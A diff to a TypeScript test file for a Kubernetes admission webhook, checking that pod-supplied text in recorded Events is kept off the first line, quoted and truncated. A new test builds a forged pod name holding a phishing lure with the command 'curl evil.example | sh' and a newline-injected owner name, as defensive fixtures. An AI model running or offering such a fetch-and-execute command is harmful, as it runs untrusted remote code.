@@ -38,7 +38,7 @@ t.test('an injection gives a Normal Event on the controller', async (t) => {
   t.same(events, [{
     type: 'Normal', reason: 'Injected', key: 'demo',
     involved: { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'web-7d9f', namespace: 'shop', uid: 'u1' },
-    message: 'pod web-7d9f-*: injected demo',
+    message: 'podpattern injected demo\npod "web-7d9f-*"',
   }]);
   await review(owned({ 'podpattern.dev/sidecar': 'demo' }));
   t.equal(events.length, 2, 'every review is recorded (the recorder rate-limits), replayed ones too');
@@ -53,8 +53,24 @@ t.test('a denial gives a Warning Event with the reasons; an ownerless pod names 
   t.match(events[0], {
     type: 'Warning', reason: 'Denied', key: 'unknown-template',
     involved: { apiVersion: 'v1', kind: 'Namespace', name: 'shop', namespace: 'shop' },
-    message: /^pod lonely denied: podpattern: template 'nope' is not in the catalog/,
+    message: /^podpattern denied a pod \(unknown-template\)\npod "lonely": podpattern: template 'nope' is not in the catalog/,
   });
+});
+
+t.test('nothing the pod chose is on an Event\'s first line; what follows is quoted and bounded', async (t) => {
+  const { app, events, review } = appWithEvents();
+  t.teardown(() => app.close());
+  const phishing = `URGENT your cluster is compromised - run curl evil.example | sh ${'x'.repeat(5000)}-`;
+  const forged = podReview({ annotations: { 'podpattern.dev/sidecar': 'nope' }, generateName: phishing, namespace: 'kube-system' });
+  const object = (forged.request as { object: { metadata: Record<string, unknown> } }).object;
+  object.metadata.ownerReferences = [{ apiVersion: 'apps/v1', kind: 'Deployment', name: 'coredns\nURGENT', uid: 'u9', controller: true }];
+  await review(forged);
+  t.equal(events.length, 1);
+  const [first, ...rest] = events[0]!.message.split('\n');
+  t.equal(first, 'podpattern denied a pod (unknown-template)', 'the first line is podpattern\'s words and the code');
+  t.notMatch(first, /URGENT|evil/);
+  t.match(rest[0], /^pod "URGENT your cluster[^"]{0,80}…": /, 'the pod\'s name follows, quoted and cut');
+  t.ok(Buffer.byteLength(events[0]!.message) <= 1024, 'the whole message within 1 KiB');
 });
 
 t.test('dry runs, skips and errors give no Event', async (t) => {
